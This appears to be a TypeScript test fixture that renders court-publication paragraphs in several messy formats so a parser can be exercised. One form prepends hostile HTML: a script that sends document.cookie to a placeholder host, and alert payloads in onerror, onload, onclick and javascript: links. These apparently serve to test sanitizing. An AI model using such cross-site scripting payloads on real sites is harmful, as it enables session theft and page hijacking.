/** The form in which a court sends its paragraphs. */
type Form = (paragraphs: readonly string[]) => string

const ENTITIES: Record<string, string> = {
  á: 'aacute',
  é: 'eacute',
  í: 'iacute',
  ó: 'oacute',
  ú: 'uacute',
  ã: 'atilde',
  õ: 'otilde',
  ç: 'ccedil',
  Ç: 'Ccedil',
  Ã: 'Atilde',
  º: 'ordm',
  ª: 'ordf',
  '\u00a0': 'nbsp',
}

const HOSTILE_HEAD = [
  '<script>document.location="https://exemplo.invalid/?"+document.cookie</script>',
  '<style>body{display:none}</style><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<img src="x" onerror="alert(\'publicado\')"><svg/onload=alert(1)>',
].join('')

/** All forms. The plain ones have line ends and leading signs that cause trouble in workbooks. */
export const FORMS: readonly Form[] = [
  (paragraphs) => paragraphs.map((text) => `<p>${encoded(text)}</p>`).join(''),
  (paragraphs) => ['*** SECRETARIA ***', '-----', ...paragraphs].join('\n\r'),
  (paragraphs) => `${paragraphs.join('\r\n\r\n')}\r\n`,
  (paragraphs) =>
    `<html><body><table border=1>${paragraphs.map(row).join('\n')}</table></body></html>`,
  (paragraphs) => `=== DIÁRIO ===\r\t${paragraphs.join('\u2028\u00a0\u00a0')}`,
  (paragraphs) =>
    `${HOSTILE_HEAD}<p onclick="alert(1)">${paragraphs.map(encoded).join('<br><br/>')}` +
    '<!-- fim --><a href="javascript:alert(1)">inteiro teor</a>',
]

function row(text: string, at: number): string {
  return `<tr><td align="right">${at + 1}</td><td><b>${encoded(text)}</b></td></tr>`
}

/** Encodes some characters as named entities, others as numbers or not at all, like the origin. */
function encoded(text: string): string {
  return text.replace(/[&<>"]|[^\x20-\x7e]/g, (sign) => {
    if (sign in ENTITIES) return `&${ENTITIES[sign]};`
    if ('&<>"'.includes(sign)) return { '&': '&amp;', '<': '&lt;', '>': '&gt;' }[sign] ?? '&quot;'
    return sign < '\u00e0' ? `&#${sign.codePointAt(0)};` : sign
  })
}
